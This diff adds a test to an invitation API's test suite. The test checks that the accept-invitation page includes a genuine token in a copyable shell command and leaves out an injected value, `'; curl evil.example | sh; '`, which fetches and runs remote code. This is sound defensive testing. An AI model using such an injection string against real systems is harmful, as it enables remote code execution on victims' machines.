@@ -239,3 +239,13 @@ describe('inviting through many workspaces', () => {
     expect((await inviteFrom(another, '0@example.net')).body).toMatchObject({ policy: 'invitation-recipient' });
   });
 });
+
+describe('the page of the link', () => {
+  it('shows a command with the token, and with nothing that is no token: people copy it into a shell', async () => {
+    const page = async (token: string) =>
+      (await ask(api, null, 'GET', `/accept-invitation?token=${encodeURIComponent(token)}`)).text;
+    const token = 'x'.repeat(43);
+    expect(await page(token)).toContain(token);
+    expect(await page(`'; curl evil.example | sh; '`)).not.toContain('evil.example');
+  });
+});
